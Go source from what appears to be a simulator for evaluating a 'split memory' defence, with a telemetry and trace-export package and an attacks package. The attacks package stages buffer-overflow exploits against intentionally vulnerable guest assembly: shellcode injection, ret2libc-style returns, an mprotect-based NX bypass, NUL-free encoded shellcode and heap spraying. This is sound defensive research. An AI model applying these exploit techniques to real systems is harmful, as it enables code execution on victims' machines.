		Seq:    seq,
		Parent: parent.seq,
		Name:   name,
		PID:    pid,
		VPN:    vpn,
		Start:  start,
	})
	return SpanID{slot: int32(slot), seq: seq}
}

// End finishes the span at the given cycle count and returns its start
// cycles (for latency accounting). If the span was already evicted from
// the ring — or the id is invalid — End reports ok=false and does
// nothing.
func (b *SpanBuffer) End(id SpanID, end uint64) (start uint64, ok bool) {
	if b == nil || !id.Valid() {
		return 0, false
	}
	s := &b.buf[id.slot]
	if s.Seq != id.seq {
		return 0, false // evicted and overwritten
	}
	s.End = end
	return s.Start, true
}

// Instant records a zero-duration marker span (detections, process
// lifecycle events). Nil-safe.
func (b *SpanBuffer) Instant(name string, pid int, vpn uint32, at uint64) {
	if b == nil {
		return
	}
	b.nextSeq++
	b.push(Span{
		Seq:     b.nextSeq,
		Name:    name,
		PID:     pid,
		VPN:     vpn,
		Start:   at,
		End:     at,
		Instant: true,
	})
}

// Spans returns a copy of the recorded spans, oldest first. Nil-safe.
func (b *SpanBuffer) Spans() []Span {
	if b == nil {
		return nil
	}
	if !b.full {
		out := make([]Span, b.pos)
		copy(out, b.buf[:b.pos])
		return out
	}
	out := make([]Span, 0, len(b.buf))
	out = append(out, b.buf[b.pos:]...)
	out = append(out, b.buf[:b.pos]...)
	return out
}

// Tail returns up to the n most recent spans, oldest first.
func (b *SpanBuffer) Tail(n int) []Span {
	all := b.Spans()
	if n > 0 && len(all) > n {
		all = all[len(all)-n:]
	}
	return all
}
