package telemetry

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
)

// Exporters. Three wire formats:
//
//   - WritePrometheus: Prometheus text exposition (scrape-style snapshot);
//   - WriteMetricsJSONL / WriteSpansJSONL: JSON Lines for log pipelines;
//   - WriteTraceEvents: Chrome trace_event JSON, loadable in Perfetto or
//     chrome://tracing. Simulated cycles are exported as microseconds
//     (1 cycle = 1 µs) since trace_event timestamps are µs doubles.

// WritePrometheus renders every registered metric in the Prometheus text
// exposition format. Histograms are exported with cumulative buckets,
// _sum and _count series. Nil-safe.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	bw := bufio.NewWriter(w)
	for _, e := range r.entries {
		if e.help != "" {
			fmt.Fprintf(bw, "# HELP %s %s\n", e.name, e.help)
		}
		fmt.Fprintf(bw, "# TYPE %s %s\n", e.name, e.kind)
		switch e.kind {
		case kindCounter:
			fmt.Fprintf(bw, "%s %d\n", e.name, e.counter.Value())
		case kindGauge:
			fmt.Fprintf(bw, "%s %s\n", e.name, formatFloat(e.gauge.Value()))
		case kindGaugeFunc:
			fmt.Fprintf(bw, "%s %s\n", e.name, formatFloat(e.fn()))
		case kindHistogram:
			h := e.hist
			cum := uint64(0)
			bounds, counts := h.Buckets()
			for i, b := range bounds {
				cum += counts[i]
				fmt.Fprintf(bw, "%s_bucket{le=\"%d\"} %d\n", e.name, b, cum)
			}
			cum += counts[len(counts)-1]
			fmt.Fprintf(bw, "%s_bucket{le=\"+Inf\"} %d\n", e.name, cum)
			fmt.Fprintf(bw, "%s_sum %d\n", e.name, h.Sum())
			fmt.Fprintf(bw, "%s_count %d\n", e.name, h.Count())
		case kindCounterVec:
			for _, it := range e.vec.Items() {
				fmt.Fprintf(bw, "%s{%s=%q} %d\n", e.name, e.vec.label, it.Label, it.Count)
			}
		}
	}
	return bw.Flush()
}

// formatFloat renders a gauge value without exponent noise for integral
// values (the common case: sampled uint64 counters).
func formatFloat(v float64) string {
	if v == float64(int64(v)) {
		return strconv.FormatInt(int64(v), 10)
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// metricJSON is the JSONL wire form of one metric sample.
type metricJSON struct {
	Name    string       `json:"name"`
	Kind    string       `json:"kind"`
	Label   string       `json:"label,omitempty"` // CounterVec label key
	Value   *float64     `json:"value,omitempty"`
	Values  []LabelCount `json:"values,omitempty"` // CounterVec items
	Count   uint64       `json:"count,omitempty"`
	Sum     uint64       `json:"sum,omitempty"`
	Min     uint64       `json:"min,omitempty"`
	Max     uint64       `json:"max,omitempty"`
	Buckets []bucketJSON `json:"buckets,omitempty"`
}

type bucketJSON struct {
	LE    string `json:"le"` // upper bound, "+Inf" for the tail
	Count uint64 `json:"count"`
}

// WriteMetricsJSONL renders one JSON object per metric, one per line.
func (r *Registry) WriteMetricsJSONL(w io.Writer) error {
	if r == nil {
		return nil
	}
	enc := json.NewEncoder(w)
	f := func(v float64) *float64 { return &v }
	for _, e := range r.entries {
		m := metricJSON{Name: e.name, Kind: e.kind.String()}
		switch e.kind {
		case kindCounter:
			m.Value = f(float64(e.counter.Value()))
		case kindGauge:
			m.Value = f(e.gauge.Value())
		case kindGaugeFunc:
			m.Value = f(e.fn())
		case kindHistogram:
			h := e.hist
			m.Count, m.Sum, m.Min, m.Max = h.Count(), h.Sum(), h.Min(), h.Max()
			bounds, counts := h.Buckets()
			for i, b := range bounds {
				m.Buckets = append(m.Buckets, bucketJSON{LE: strconv.FormatUint(b, 10), Count: counts[i]})
			}
			m.Buckets = append(m.Buckets, bucketJSON{LE: "+Inf", Count: counts[len(counts)-1]})
		case kindCounterVec:
			m.Label = e.vec.label
			m.Values = e.vec.Items()
		}
		if err := enc.Encode(m); err != nil {
			return err
		}
	}
	return nil
}

// spanJSON is the JSONL wire form of one span.
type spanJSON struct {
	Seq     uint64 `json:"seq"`
	Parent  uint64 `json:"parent,omitempty"`
	Name    string `json:"name"`
	PID     int    `json:"pid"`
	VPN     string `json:"vpn,omitempty"` // hex page base address
	Start   uint64 `json:"start"`
	Dur     uint64 `json:"dur"`
	Instant bool   `json:"instant,omitempty"`
}

// WriteSpansJSONL renders one JSON object per recorded span, one per
// line, oldest first. Nil-safe.
func (b *SpanBuffer) WriteSpansJSONL(w io.Writer) error {
	if b == nil {
		return nil
	}
	enc := json.NewEncoder(w)
	for _, s := range b.Spans() {
		sj := spanJSON{
			Seq:     s.Seq,
			Parent:  s.Parent,
			Name:    s.Name,
			PID:     s.PID,
			Start:   s.Start,
			Dur:     s.Dur(),
			Instant: s.Instant,
		}
		if s.VPN != 0 {
			sj.VPN = fmt.Sprintf("0x%08x", s.VPN<<12)
		}
		if err := enc.Encode(sj); err != nil {
			return err
		}
	}
	return nil
}

// traceEvent is one Chrome trace_event record. The "X" phase is a
// complete (begin+end) slice; "i" is an instant; "M" is metadata naming
// processes and threads.
type traceEvent struct {
	Name  string         `json:"name"`
	Phase string         `json:"ph"`
	TS    uint64         `json:"ts"` // microseconds (1 simulated cycle = 1 µs)
	Dur   uint64         `json:"dur,omitempty"`
	PID   int            `json:"pid"`
	TID   uint32         `json:"tid"`
	Cat   string         `json:"cat,omitempty"`
	Scope string         `json:"s,omitempty"` // instant scope
	Args  map[string]any `json:"args,omitempty"`
}

type traceFile struct {
	TraceEvents     []traceEvent `json:"traceEvents"`
	DisplayTimeUnit string       `json:"displayTimeUnit"`
	OtherData       map[string]string `json:"otherData,omitempty"`
}

// WriteTraceEvents renders the span buffer as Chrome trace_event JSON.
// Each guest process becomes a trace "process"; each virtual page becomes
// a "thread" within it, so Perfetto lays split-engine activity out as a
// per-page heatmap over simulated time. procNames optionally maps guest
// PIDs to display names. Nil-safe.
func (b *SpanBuffer) WriteTraceEvents(w io.Writer, procNames map[int]string) error {
	spans := b.Spans()
	tf := traceFile{
		DisplayTimeUnit: "ms",
		TraceEvents:     make([]traceEvent, 0, len(spans)+16),
		OtherData: map[string]string{
			"clock": "simulated cycles (1 cycle exported as 1us)",
		},
	}

	// Metadata: name every process and every per-page track we will emit.
	type track struct {
		pid int
		vpn uint32
	}
	seenProc := map[int]bool{}
	seenTrack := map[track]bool{}
	var meta []traceEvent
	for _, s := range spans {
		if !seenProc[s.PID] {
			seenProc[s.PID] = true
			name := procNames[s.PID]
			if name == "" {
				name = fmt.Sprintf("pid %d", s.PID)
			}
			meta = append(meta, traceEvent{
				Name: "process_name", Phase: "M", PID: s.PID,
				Args: map[string]any{"name": name},
			})
		}
		tr := track{pid: s.PID, vpn: s.VPN}
		if !seenTrack[tr] {
			seenTrack[tr] = true
			tname := "kernel"
			if s.VPN != 0 {
				tname = fmt.Sprintf("page 0x%08x", s.VPN<<12)
			}
			meta = append(meta, traceEvent{
				Name: "thread_name", Phase: "M", PID: s.PID, TID: s.VPN,
				Args: map[string]any{"name": tname},
			})
		}
	}
	sort.SliceStable(meta, func(i, j int) bool {
		if meta[i].PID != meta[j].PID {
			return meta[i].PID < meta[j].PID
		}
		return meta[i].TID < meta[j].TID
	})
	tf.TraceEvents = append(tf.TraceEvents, meta...)

	for _, s := range spans {
		ev := traceEvent{
			Name:  s.Name,
			TS:    s.Start,
			PID:   s.PID,
			TID:   s.VPN,
			Cat:   "splitmem",
			Args:  map[string]any{"seq": s.Seq},
		}
		if s.Parent != 0 {
			ev.Args["parent"] = s.Parent
		}
		if s.VPN != 0 {
			ev.Args["page"] = fmt.Sprintf("0x%08x", s.VPN<<12)
		}
		if s.Instant {
			ev.Phase = "i"
			ev.Scope = "t"
		} else {
			ev.Phase = "X"
			ev.Dur = s.Dur()
		}
		tf.TraceEvents = append(tf.TraceEvents, ev)
	}

	enc := json.NewEncoder(w)
	return enc.Encode(tf)
}
