// Package telemetry is the observability layer of the S86 simulator: a
// low-overhead metrics registry (counters, gauges, simulated-cycle
// histograms, labeled counter vectors) and a span tracer that records the
// split-memory engine's fault-handling episodes into a bounded buffer,
// plus exporters for Prometheus-style text exposition, JSON Lines, and
// Chrome trace_event JSON (loadable in Perfetto / chrome://tracing).
//
// All times and durations are SIMULATED CYCLES, never host wall time: the
// S86 machine is deterministic, and telemetry must not break that.
//
// Every type in this package is nil-safe: calling any method on a nil
// *Counter, *Gauge, *Histogram, *CounterVec, *SpanBuffer, *Registry or
// *Hub is a cheap no-op. Instrumented packages therefore compile their
// hooks in unconditionally and pay only a nil check when telemetry is
// disabled — the guard benchmark (BenchmarkTelemetryOnOff) keeps that
// honest.
//
// The package is a leaf: it imports only the standard library, so every
// engine package (cpu, tlb, mem, kernel, core, chaos) can register into
// one shared Registry without import cycles.
package telemetry

// Options configures a Hub.
type Options struct {
	// SpanCap bounds the span buffer (default 8192 spans). The buffer is a
	// ring: once full, the oldest spans are overwritten.
	SpanCap int
}

// Hub bundles the metrics registry and the span tracer of one machine.
// A nil *Hub disables all telemetry.
type Hub struct {
	reg   *Registry
	spans *SpanBuffer
}

// NewHub creates a hub with an empty registry and a bounded span buffer.
func NewHub(opts Options) *Hub {
	if opts.SpanCap <= 0 {
		opts.SpanCap = 8192
	}
	return &Hub{reg: NewRegistry(), spans: NewSpanBuffer(opts.SpanCap)}
}

// Registry returns the hub's metrics registry (nil when the hub is nil).
func (h *Hub) Registry() *Registry {
	if h == nil {
		return nil
	}
	return h.reg
}

// Spans returns the hub's span buffer (nil when the hub is nil).
func (h *Hub) Spans() *SpanBuffer {
	if h == nil {
		return nil
	}
	return h.spans
}
