package attacks

import (
	"strings"

	"splitmem"
	"splitmem/internal/guest"
)

// Executable demonstrations of the limitations the paper owns in §7:
//
//  1. return-into-existing-code (ret2libc-style) attacks are NOT stopped —
//     no injected code ever executes;
//  2. non-control-data attacks are NOT stopped — the attacker only corrupts
//     decision-making data;
//  3. self-modifying code does not work on split pages — writes reach only
//     the data twin and never become fetchable.

// ret2existingSrc contains a privileged function already in the binary
// (spawning a debug shell); the attacker overflows the stack and returns
// into it instead of injecting code.
const ret2existingSrc = `
_start:
    call vuln
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit

; the "libc" function the attacker returns into
debug_shell:
    mov ebx, shpath
    mov eax, SYS_EXECVE
    int 0x80

vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    mov eax, 512
    push eax
    lea eax, [ebp-64]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov esp, ebp
    pop ebp
    ret

.data
survived: .asciz "SURVIVED\n"
shpath:   .asciz "/bin/sh"
`

// RunRet2Existing mounts the return-into-existing-code attack.
func RunRet2Existing(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, ret2existingSrc, "ret2existing")
	if err != nil {
		return Result{}, err
	}
	prog, err := splitmem.Assemble(guest.WithCRT(ret2existingSrc))
	if err != nil {
		return Result{}, err
	}
	target, _ := prog.Symbol("debug_shell")
	payload := pad(nil, 64, 0x41)
	payload = append(payload, le32(0x42424242)...) // saved ebp
	payload = append(payload, le32(target)...)     // return into existing code
	t.Send(payload)
	t.Close()
	t.Run()
	return t.Result(), nil
}

// nonControlDataSrc models a privilege flag adjacent to a vulnerable
// buffer: the attacker flips is_admin without touching any code pointer.
const nonControlDataSrc = `
_start:
    mov eax, 512
    push eax
    mov eax, userbuf
    push eax
    mov eax, 0
    push eax
    call read_exact        ; overflows userbuf into is_admin
    add esp, 12
    mov ecx, is_admin
    load eax, [ecx]
    cmp eax, 0
    jnz grant
    mov eax, denied
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
grant:
    mov eax, secret
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
userbuf:  .space 64
is_admin: .word 0
denied:   .asciz "access denied\n"
secret:   .asciz "SECRET: launch codes 0000\n"
`

// RunNonControlData mounts the non-control-data attack; "success" is
// reading the secret, with no code injection at all.
func RunNonControlData(cfg splitmem.Config) (bool, error) {
	t, err := NewTarget(cfg, nonControlDataSrc, "noncontrol")
	if err != nil {
		return false, err
	}
	payload := pad(nil, 64, 0x41)
	payload = append(payload, le32(1)...) // is_admin = 1
	t.Send(payload)
	t.Close()
	t.Run()
	r := t.Result()
	return strings.Contains(r.Output, "SECRET"), nil
}

// selfModifyingSrc writes a tiny routine into its own rwx scratch area and
// jumps to it — legitimate JIT-style self-modification.
const selfModifyingSrc = `
_start:
    ; write "mov ebx, 9; mov eax, 1; int 0x80" into the scratch area
    mov esi, scratch
    mov edx, 0xbb
    storeb [esi], edx
    mov edx, 9
    storeb [esi+1], edx
    mov edx, 0
    storeb [esi+2], edx
    storeb [esi+3], edx
    storeb [esi+4], edx
    mov edx, 0xb8
    storeb [esi+5], edx
    mov edx, 1
    storeb [esi+6], edx
    mov edx, 0
    storeb [esi+7], edx
    storeb [esi+8], edx
    storeb [esi+9], edx
    mov edx, 0xcd
    storeb [esi+10], edx
    mov edx, 0x80
    storeb [esi+11], edx
    jmp esi

.section jit 0x08090000 rwx
scratch: .space 64
`

// RunSelfModifying executes the JIT-style program; under split memory the
// generated code is unreachable (§7's first limitation), so the program
// cannot exit 9.
func RunSelfModifying(cfg splitmem.Config) (exited bool, status int, err error) {
	m, err := splitmem.New(cfg)
	if err != nil {
		return false, 0, err
	}
	p, err := m.LoadAsm(selfModifyingSrc, "jit")
	if err != nil {
		return false, 0, err
	}
	m.Run(50_000_000)
	exited, status = p.Exited()
	return exited, status, nil
}
