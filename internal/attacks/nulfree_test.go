package attacks

import (
	"testing"

	"splitmem"
)

func TestNulFreeShellcodeClean(t *testing.T) {
	payload := ExecveShellcode(0xbffe1000)
	stub, err := NulFreeShellcode(0xbffe1000, payload)
	if err != nil {
		t.Fatal(err)
	}
	if !CleanBytes(stub) {
		t.Fatalf("stub contains forbidden bytes: % x", stub)
	}
	if len(stub) != decoderLen+len(payload) {
		t.Fatalf("len=%d", len(stub))
	}
	// The raw payload definitely contains NULs (that is the point).
	if CleanBytes(payload) {
		t.Fatal("test premise broken: plain shellcode should contain NULs")
	}
}

func TestNulFreeShellcodeRejectsBadAddr(t *testing.T) {
	// An address whose immediate encodings contain 0x00 must be rejected.
	if _, err := NulFreeShellcode(0x00000100, []byte{0x90}); err == nil {
		t.Fatal("expected rejection for a NUL-producing address")
	}
}

func TestPickKeyImpossible(t *testing.T) {
	// A payload containing every byte value has no clean key.
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if _, err := pickKey(all); err == nil {
		t.Fatal("expected no clean key")
	}
}

// TestStrcpyScenario: the encoded attack works end to end through the
// NUL/newline gauntlet on the unprotected machine (proving the decoder
// stub executes correctly) and is foiled by split memory.
func TestStrcpyScenario(t *testing.T) {
	r, err := RunStrcpyScenario(splitmem.Config{Protection: splitmem.ProtNone})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("strcpy attack failed unprotected: %+v", r)
	}
	r, err = RunStrcpyScenario(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	if r.Succeeded() {
		t.Fatalf("strcpy attack succeeded under split memory: %+v", r)
	}
	if !r.Detected {
		t.Fatalf("no detection: %+v", r)
	}
}
