package attacks

import (
	"splitmem"
	"splitmem/internal/guest"
	"splitmem/internal/mem"
)

// The NX-bypass attack (§2, [4] / Skape & Skywing): the victim binary
// contains a make_executable() helper (standing in for libc's mprotect
// wrapper). The attacker overflows a stack buffer with a crafted frame that
// returns INTO make_executable with arguments that re-protect the injected
// buffer as executable, and a second return address pointing at the
// injected code. Hardware NX is defeated; split memory is not, because
// there is no operation that moves data-twin bytes into a code twin.

const nxBypassSrc = `
_start:
    sub esp, 256            ; victim working area keeps the frame simple
    call vuln
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit

; make_executable(addr, len): the in-binary re-protection gadget
make_executable:
    push ebp
    mov ebp, esp
    push ebx
    load ebx, [ebp+8]       ; addr
    load ecx, [ebp+12]      ; len
    mov edx, 7              ; PROT_READ|WRITE|EXEC
    mov eax, SYS_MPROTECT
    int 0x80
    pop ebx
    mov esp, ebp
    pop ebp
    ret

vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    ; leak the buffer address: "BUF xxxxxxxx\n"
    lea eax, [ebp-64]
    push eax
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, leakpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; BUG: 512 bytes into a 64-byte buffer
    mov eax, 512
    push eax
    lea eax, [ebp-64]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov esp, ebp
    pop ebp
    ret

.data
leakpfx:  .asciz "BUF "
newline:  .asciz "\n"
survived: .asciz "SURVIVED\n"
leakbuf:  .space 12
`

// RunNXBypass runs the re-protection attack under cfg and returns the
// outcome.
func RunNXBypass(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, nxBypassSrc, "nxbypass")
	if err != nil {
		return Result{}, err
	}
	prog, err := splitmem.Assemble(guest.WithCRT(nxBypassSrc))
	if err != nil {
		return Result{}, err
	}
	makeExec, ok := prog.Symbol("make_executable")
	if !ok {
		return Result{}, err
	}
	out, ok := t.WaitOutput("BUF ")
	if !ok {
		return Result{Notes: "no leak: " + out}, nil
	}
	buf, err := parseLeak(out, "BUF ")
	if err != nil {
		return Result{}, err
	}
	page := buf &^ uint32(mem.PageMask)

	// Crafted stack, bottom-up past the 64-byte buffer:
	//   [shellcode........pad to 64]
	//   [saved ebp  = junk]
	//   [ret        = make_executable]     <- vuln returns here
	//   [ret2       = buf (the shellcode)] <- make_executable returns here
	//   [arg addr   = page containing buf]
	//   [arg len    = one page]
	payload := pad(ExecveShellcode(buf), 64, 0x90)
	payload = append(payload, le32(0x42424242)...)
	payload = append(payload, le32(makeExec)...)
	payload = append(payload, le32(buf)...)
	payload = append(payload, le32(page)...)
	payload = append(payload, le32(mem.PageSize)...)
	t.Send(payload)
	t.Close()
	t.Run()
	return t.Result(), nil
}
