package attacks

import (
	"testing"

	"splitmem"
)

// TestWilanderGridUnprotected: every benchmark cell must achieve code
// execution on the unprotected machine — otherwise the protected runs prove
// nothing.
func TestWilanderGridUnprotected(t *testing.T) {
	for _, tech := range Techniques() {
		for _, seg := range Segments() {
			t.Run(tech.String()+"/"+seg.String(), func(t *testing.T) {
				r, err := runCellOnce(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
				if err != nil {
					t.Fatal(err)
				}
				if !r.Succeeded() {
					t.Fatalf("attack failed unprotected: %+v", r)
				}
			})
		}
	}
}

// TestWilanderGridSplit: every cell must be foiled by stand-alone split
// memory (Table 1's checkmarks).
func TestWilanderGridSplit(t *testing.T) {
	for _, tech := range Techniques() {
		for _, seg := range Segments() {
			t.Run(tech.String()+"/"+seg.String(), func(t *testing.T) {
				r, err := runCellOnce(splitmem.Config{Protection: splitmem.ProtSplit}, tech, seg)
				if err != nil {
					t.Fatal(err)
				}
				if r.Succeeded() {
					t.Fatalf("attack succeeded under split memory: %+v", r)
				}
			})
		}
	}
}

// TestIndirectCells: the pointer-mediated (indirect) forms must succeed
// unprotected and be foiled by split memory in every segment.
func TestIndirectCells(t *testing.T) {
	for _, tech := range []Technique{TechIndirectRet, TechIndirectFuncPtr} {
		for _, seg := range Segments() {
			t.Run(techniqueName(tech)+"/"+seg.String(), func(t *testing.T) {
				base, err := runIndirectCell(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
				if err != nil {
					t.Fatal(err)
				}
				if !base.Succeeded() {
					t.Fatalf("indirect attack failed unprotected: %+v", base)
				}
				prot, err := runIndirectCell(splitmem.Config{Protection: splitmem.ProtSplit}, tech, seg)
				if err != nil {
					t.Fatal(err)
				}
				if prot.Succeeded() {
					t.Fatalf("indirect attack succeeded under split memory: %+v", prot)
				}
			})
		}
	}
}
