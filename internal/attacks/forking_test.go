package attacks

import (
	"strings"
	"testing"

	"splitmem"
)

// forkingDaemonSrc models the pre-fork daemon structure of the paper's
// real-world targets: the parent forks a worker to handle the connection;
// the worker runs the vulnerable handler. A compromise kills only the
// worker; the parent reaps it and reports, as wu-ftpd's master does.
const forkingDaemonSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
    mov eax, SYS_FORK
    int 0x80
    cmp eax, 0
    jz worker

    ; parent: wait for the worker and report its fate
    mov ebx, -1
    mov ecx, stat
    mov eax, SYS_WAITPID
    int 0x80
    mov ecx, stat
    load eax, [ecx]
    and eax, 0xff          ; low byte = signal number (0 if clean exit)
    cmp eax, 0
    jz clean
    mov eax, msg_died
    push eax
    call print
    add esp, 4
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
clean:
    mov eax, msg_clean
    push eax
    call print
    add esp, 4
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

worker:
    ; the vulnerable connection handler: read-and-jump
    sub esp, 1024
    mov ecx, esp
    mov ebx, 0
    mov edx, 1024
    mov eax, SYS_READ
    int 0x80
    jmp ecx

.data
banner:    .asciz "forkd ready\n"
msg_died:  .asciz "worker terminated by signal; master still alive\n"
msg_clean: .asciz "worker exited cleanly\n"
stat:      .word 0
`

// TestForkingDaemonWorkerCompromise: under split memory the injected code
// in the forked worker is unfetchable; the worker dies on SIGILL and the
// master survives to report it — the containment story of a pre-fork
// daemon.
func TestForkingDaemonWorkerCompromise(t *testing.T) {
	t.Run("split", func(t *testing.T) {
		tg, err := NewTarget(splitmem.Config{Protection: splitmem.ProtSplit}, forkingDaemonSrc, "forkd")
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := tg.WaitOutput("ready"); !ok {
			t.Fatal("no banner")
		}
		tg.Send([]byte{0x90, 0x90, 0xCD, 0x80})
		tg.Run()
		r := tg.Result()
		if r.ShellSpawned {
			t.Fatalf("worker injection succeeded: %+v", r)
		}
		if !strings.Contains(r.Output, "terminated by signal") {
			t.Fatalf("master did not report the dead worker: %q", r.Output)
		}
		exited, status := tg.P.Exited()
		if !exited || status != 0 {
			t.Fatalf("master: exited=%v status=%d", exited, status)
		}
		if !r.Detected {
			t.Fatal("injection in the forked worker must be detected")
		}
	})
	t.Run("unprotected", func(t *testing.T) {
		tg, err := NewTarget(splitmem.Config{Protection: splitmem.ProtNone}, forkingDaemonSrc, "forkd")
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := tg.WaitOutput("ready"); !ok {
			t.Fatal("no banner")
		}
		// The worker's buffer address: probe via a throwaway instance.
		probe, err := NewTarget(splitmem.Config{Protection: splitmem.ProtNone}, forkingDaemonSrc, "probe")
		if err != nil {
			t.Fatal(err)
		}
		probe.WaitOutput("ready")
		probe.Run()
		var buf uint32
		if kp, ok := probe.M.Kernel().Process(2); ok {
			buf = kp.Ctx.R[1] // worker blocked in read; ECX = buffer
		}
		if buf == 0 {
			t.Fatal("probe failed to find the worker buffer")
		}
		tg.Send(ExecveShellcode(buf))
		tg.Run()
		if !tg.P.ShellSpawned() {
			// The worker spawned the shell, not the master — check the
			// worker process.
			if wp, ok := tg.M.Kernel().Process(2); !ok || !wp.ShellSpawned() {
				t.Fatal("unprotected worker injection should succeed")
			}
		}
	})
}

// TestObserveModeGeneralizes: observe mode is not wu-ftpd specific — the
// OpenSSL scenario also proceeds to a shell under observation.
func TestObserveModeGeneralizes(t *testing.T) {
	r, err := RunScenario("minissl", splitmem.Config{
		Protection: splitmem.ProtSplit,
		Response:   splitmem.Observe,
	})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("observe mode should let the openssl exploit continue: %+v", r)
	}
	if !r.Detected {
		t.Fatal("the injection must still be detected and logged")
	}
}
