package attacks

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// OneShot precomputes a single-exchange form of a Wilander benchmark cell:
// the vulnerable program's source plus the complete stdin (injected
// shellcode followed by the overflow payload) that hijacks it.
//
// The interactive driver in RunCell reads the victim's "BUF xxxxxxxx" leak
// and answers with a payload aimed at the leaked address. A detonation
// service job carries its whole input up front, so OneShot performs that
// probe here, on a throwaway unprotected machine: guest layout is
// deterministic (stack randomization off), so the address the probe leaks
// is the address every later run of the same source leaks, and the payload
// can be baked in. Submitting (source, stdin) to splitmem-serve with CRT
// enabled replays the attack exactly — a root shell on an unprotected
// machine, EvInjectionDetected under split memory.
func OneShot(tech Technique, seg Segment) (source string, stdin []byte, err error) {
	src := victimSource(tech, seg)
	t, err := NewTarget(splitmem.Config{Protection: splitmem.ProtNone}, src,
		fmt.Sprintf("oneshot-probe-%d-%d", tech, seg))
	if err != nil {
		return "", nil, err
	}
	out, ok := t.WaitOutput("BUF ")
	if !ok {
		return "", nil, fmt.Errorf("oneshot %v/%v: no address leak in %q", tech, seg, out)
	}
	codebuf, err := parseLeak(out, "BUF ")
	if err != nil {
		return "", nil, fmt.Errorf("oneshot %v/%v: %w", tech, seg, err)
	}
	prog, err := splitmem.Assemble(guest.WithCRT(src))
	if err != nil {
		return "", nil, fmt.Errorf("oneshot %v/%v: %w", tech, seg, err)
	}
	stdin = append(shellcodeFor(tech, codebuf), buildPayload(tech, codebuf, prog.Symbols)...)
	return src, stdin, nil
}
