package attacks

import (
	"testing"

	"splitmem"
)

// TestHeapSpray: the leak-free spray succeeds on the unprotected machine
// (validating the PIC shellcode and the blind guess) and is foiled by both
// NX and split memory.
func TestHeapSpray(t *testing.T) {
	r, err := RunHeapSpray(splitmem.Config{Protection: splitmem.ProtNone}, 16)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("spray failed unprotected: %+v", r)
	}
	for _, prot := range []splitmem.Protection{splitmem.ProtNX, splitmem.ProtSplit} {
		r, err := RunHeapSpray(splitmem.Config{Protection: prot}, 16)
		if err != nil {
			t.Fatal(err)
		}
		if r.Succeeded() {
			t.Fatalf("%v: spray succeeded: %+v", prot, r)
		}
	}
}

// TestPICShellcodeIsPositionIndependent: the same bytes work at two
// unrelated addresses.
func TestPICShellcodeIsPositionIndependent(t *testing.T) {
	victim := `
_start:
    sub esp, 1024
    mov ecx, esp
    mov ebx, 0
    mov edx, 1024
    mov eax, 3
    int 0x80
    jmp ecx
`
	for seed := int64(0); seed < 2; seed++ {
		m, err := splitmem.New(splitmem.Config{Protection: splitmem.ProtNone, RandomizeStack: true, Seed: seed})
		if err != nil {
			t.Fatal(err)
		}
		p, err := m.LoadAsm(victim, "pic")
		if err != nil {
			t.Fatal(err)
		}
		p.StdinWrite(PICShellcode())
		m.Run(10_000_000)
		if !p.ShellSpawned() {
			t.Fatalf("seed %d: PIC shellcode failed", seed)
		}
	}
}
