package attacks

import (
	"bytes"
	"strings"
	"testing"

	"splitmem"
)

func TestNXBypass(t *testing.T) {
	// Unprotected: trivially succeeds.
	r, err := RunNXBypass(splitmem.Config{Protection: splitmem.ProtNone})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("unprotected: %+v", r)
	}
	// Hardware NX: the re-protection attack BYPASSES it (the motivating
	// weakness, §2).
	r, err = RunNXBypass(splitmem.Config{Protection: splitmem.ProtNX})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("NX should be bypassed by the mprotect attack: %+v", r)
	}
	// Split memory: foiled — mprotect cannot move injected bytes into the
	// code twin.
	r, err = RunNXBypass(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	if r.Succeeded() {
		t.Fatalf("split memory should foil the bypass: %+v", r)
	}
}

func TestFig5Break(t *testing.T) {
	r, err := RunFig5(splitmem.Break)
	if err != nil {
		t.Fatal(err)
	}
	if r.ShellSpawned {
		t.Fatal("break mode must stop the attack")
	}
	if r.Detections == 0 {
		t.Fatal("break mode should still detect the injection")
	}
	if !strings.Contains(r.AttackerView, "exploit failed") {
		t.Fatalf("attacker view: %s", r.AttackerView)
	}
}

func TestFig5Observe(t *testing.T) {
	r, err := RunFig5(splitmem.Observe)
	if err != nil {
		t.Fatal(err)
	}
	if !r.ShellSpawned {
		t.Fatalf("observe mode must let the attack continue: %s", r.AttackerView)
	}
	if !strings.Contains(r.AttackerView, "rootshell") {
		t.Fatalf("attacker view: %s", r.AttackerView)
	}
